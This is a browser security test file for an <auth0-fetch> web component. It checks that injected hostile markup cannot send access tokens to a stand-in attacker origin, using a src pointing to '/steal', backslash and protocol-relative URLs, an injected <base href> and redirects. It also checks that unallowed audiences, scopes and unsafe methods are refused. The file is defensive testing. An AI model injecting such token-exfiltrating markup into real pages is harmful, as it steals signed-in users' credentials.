// Hostile <auth0-fetch> markup injected with innerHTML into a signed-in page: nothing may leave for
// an origin, audience or scope the page owner did not allow, and no unsafe request runs by itself.
// Asserted where it counts: at the network edge (the attacker's stand-in server, the tenant's log).
import { expect, oneEvent } from '@open-wc/testing';
import { tenant } from '../../support/tenant.js';
import { GenericError } from '../../../components/index.js';
import { clean, edge, fetchError, fetchIn, info, inject, settle, shownError, signedIn, wire } from './helpers.js';

/** The tenant's token traffic since the last reset (no token may be fetched for a refused request). */
const tokenTraffic = async () => [
  ...(await tenant.control<unknown[]>('requests', { path: '/authorize' })),
  ...(await tenant.control<unknown[]>('requests', { path: '/oauth/token' })),
];

/** Injects `markup`, waits for the refusal and checks it: typed, shown, and nothing sent anywhere. */
async function expectRefused(provider: Element, markup: string, error: string, refused: string) {
  const block = inject(provider, markup);
  const { detail } = await fetchError(block);
  const element = fetchIn(block);
  await element.updateComplete;
  expect(detail.error).to.be.instanceOf(GenericError);
  expect(detail.error.error).to.equal(error);
  expect(detail.error.message).to.equal(`${error}: ${refused}`);
  expect(element.error).to.equal(detail.error);
  expect(shownError(element)).to.contain(refused);
  await settle();
  expect(await edge.requests('evil'), 'at the attacker’s server').to.deep.equal([]);
  expect(await tokenTraffic(), 'no token fetched for it').to.deep.equal([]);
  return element;
}

describe('security: <auth0-fetch> markup cannot send tokens where the page owner did not allow', () => {
  let evil: string;
  let api: string;

  before(async () => {
    ({ evil, api } = await edge.info());
  });
  beforeEach(clean);

  it('an absolute URL of another origin is refused before any token is fetched', async () => {
    const provider = await signedIn();
    await expectRefused(provider, `<auth0-fetch src="${evil}/steal"></auth0-fetch>`, 'origin_not_allowed', evil);
  });

  it('protocol-relative and backslash URLs are resolved as the browser would, then refused', async () => {
    const provider = await signedIn();
    const host = evil.replace('http:', '');
    await expectRefused(provider, `<auth0-fetch src="${host}/steal"></auth0-fetch>`, 'origin_not_allowed', evil);
    await expectRefused(provider, `<auth0-fetch src="\\\\${host.slice(2)}/steal"></auth0-fetch>`, 'origin_not_allowed', evil);
  });

  it('base-url, and an injected <base href>, cannot move a relative src to another origin', async () => {
    const provider = await signedIn();
    await expectRefused(provider, `<auth0-fetch base-url="${evil}/api" src="messages"></auth0-fetch>`, 'origin_not_allowed', evil);
    const base = document.createElement('base');
    base.href = `${evil}/`;
    document.head.prepend(base);
    try {
      await expectRefused(provider, `<auth0-fetch src="/api/messages"></auth0-fetch>`, 'origin_not_allowed', evil);
    } finally {
      base.remove();
    }
  });

  it('a redirect from an allowed API is not followed: the token never reaches where it points', async () => {
    const provider = await signedIn({ 'api-origins': api });
    const block = inject(provider, `<auth0-fetch src="${api}/redirect?to=${encodeURIComponent(`${evil}/steal`)}"></auth0-fetch>`);
    const { detail } = await fetchError(block);
    // redirect: 'error': the browser refuses to follow and the request fails as a network error.
    expect(detail.error).to.be.instanceOf(TypeError);
    expect(shownError(fetchIn(block))).to.equal(detail.error.message);
    // The allowed API got the request (with the token, as the owner allowed); the target nothing.
    const [sent] = (await edge.requests('api')).filter((r) => r.method === 'GET');
    expect(sent.path).to.equal('/redirect');
    expect(sent.headers.authorization).to.match(/^Bearer /);
    await settle();
    expect(await edge.requests('evil')).to.deep.equal([]);
  });

  it('a src changed after load is checked again', async () => {
    const provider = await signedIn();
    const block = inject(provider, `<auth0-fetch src="/__security/api/ok"></auth0-fetch>`);
    const element = fetchIn(block);
    const { detail } = await oneEvent(block, 'auth0-response');
    expect(detail.data).to.deep.equal({ path: '/__security/api/ok', same_origin: true });
    const refused = fetchError(block);
    element.setAttribute('src', `${evil}/steal`);
    expect((await refused).detail.error).to.include({ error: 'origin_not_allowed', message: `origin_not_allowed: ${evil}` });
    await element.updateComplete;
    expect(element.data).to.equal(undefined);
    await settle();
    expect(await edge.requests('evil')).to.deep.equal([]);
  });

  it('an audience or a scope the provider was not configured for is refused, with no token request', async () => {
    const { apis } = await info();
    const provider = await signedIn({ audience: apis.default, scope: 'read:messages' });
    await expectRefused(provider, `<auth0-fetch src="/__security/api/admin" audience="${apis.admin}"></auth0-fetch>`, 'audience_not_allowed', apis.admin);
    await expectRefused(provider, `<auth0-fetch src="/__security/api/x" scope="read:messages delete:admin"></auth0-fetch>`, 'scope_not_allowed', 'delete:admin');
    expect(await edge.requests('self')).to.deep.equal([]);
  });

  it('a method other than GET or HEAD never runs on load; a click sends it', async () => {
    const provider = await signedIn();
    await expectRefused(provider, `<auth0-fetch method="DELETE" src="/__security/api/account"></auth0-fetch>`, 'unsafe_method_on_load', 'DELETE');
    await expectRefused(provider, `<auth0-fetch method="post" body="{}" src="/__security/api/account"></auth0-fetch>`, 'unsafe_method_on_load', 'post');
    expect(await edge.requests('self'), 'nothing reached the API').to.deep.equal([]);
    const block = inject(provider, `<auth0-fetch trigger="click" method="DELETE" src="/__security/api/account"></auth0-fetch>`);
    const element = fetchIn(block);
    await element.updateComplete;
    const answered = oneEvent(block, 'auth0-response');
    (element.shadowRoot!.querySelector('[part=button]') as HTMLButtonElement).click();
    await answered;
    expect((await edge.requests('self')).map((r) => r.method)).to.deep.equal(['DELETE']);
  });

  it('a second provider injected for the same client cannot widen the allowed origins', async () => {
    const { domain, clients } = await info();
    const provider = await signedIn();
    const block = inject(
      document.body,
      `<auth0-provider domain="${domain}" client-id="${clients.spa.clientId}" api-origins="${evil}">
         <auth0-fetch src="${evil}/steal"></auth0-fetch></auth0-provider>`,
    );
    const { detail } = await fetchError(block);
    expect(detail.error).to.include({ error: 'origin_not_allowed', message: `origin_not_allowed: ${evil}` });
    await settle();
    expect(await edge.requests('evil')).to.deep.equal([]);
    block.remove();
    provider.remove();
  });
});

describe('security: the legitimate uses still work', () => {
  let evil: string;
  let api: string;

  before(async () => {
    ({ evil, api } = await edge.info());
  });
  beforeEach(clean);

  for (const dpop of [false, true]) {
    const mode = dpop ? 'DPoP' : 'Bearer';
    it(`${mode}: the page's own origin, an allowed API origin and a configured audience`, async () => {
      const { apis } = await info();
      const provider = await signedIn({
        audience: apis.default,
        'api-origins': `${api}, https://unused.example.com`,
        'api-audiences': apis.analytics,
        'api-scopes': 'read:analytics',
        ...(dpop ? { 'use-dpop': '' } : {}),
      });
      const block = inject(
        provider,
        `<auth0-fetch id="same" src="/__security/api/same"></auth0-fetch>
         <auth0-fetch id="other" src="${api}/other" dpop-nonce-id="other"></auth0-fetch>
         <auth0-fetch id="analytics" src="/__security/api/analytics" audience="${apis.analytics}" scope="read:analytics"></auth0-fetch>`,
      );
      const answers = new Map<string, any>();
      await new Promise<void>((resolve, reject) => {
        block.addEventListener('auth0-error', (event) => reject((event as CustomEvent).detail.error));
        block.addEventListener('auth0-response', (event) => {
          answers.set((event.target as Element).id, (event as CustomEvent).detail);
          if (answers.size === 3) resolve();
        });
      });
      expect([...answers.values()].map((a) => a.status)).to.deep.equal([200, 200, 200]);
      const same = await edge.requests('self');
      const other = (await edge.requests('api')).filter((r) => r.method === 'GET');
      const scheme = new RegExp(`^${mode} `);
      expect(same.map((r) => r.path).sort()).to.deep.equal(['/__security/api/analytics', '/__security/api/same']);
      for (const request of [...same, ...other]) {
        expect(request.headers.authorization).to.match(scheme);
        expect(!!request.headers.dpop, 'a DPoP proof').to.equal(dpop);
      }
      expect(other.map((r) => r.path)).to.deep.equal(['/other']);
      // The configured audience got its own token.
      const analytics = same.find((r) => r.path.endsWith('/analytics'))!;
      const claims = JSON.parse(atob(analytics.headers.authorization.split(' ')[1].split('.')[1].replace(/-/g, '+').replace(/_/g, '/')));
      expect(claims.aud).to.include(apis.analytics);
      expect(await edge.requests('evil')).to.deep.equal([]);
    });
  }

  it('the edge does see a token when the page owner allows the origin (the check above can fail)', async () => {
    const provider = await signedIn({ 'api-origins': evil });
    const block = inject(provider, `<auth0-fetch src="${evil}/allowed"></auth0-fetch>`);
    await oneEvent(block, 'auth0-response');
    const seen = (await edge.requests('evil')).filter((r) => r.method === 'GET');
    expect(seen).to.have.length(1);
    const token = await provider.client!.getTokenSilently({ cacheMode: 'cache-only' });
    expect(wire(seen[0])).to.contain(`"authorization":"Bearer ${token}"`);
  });
});
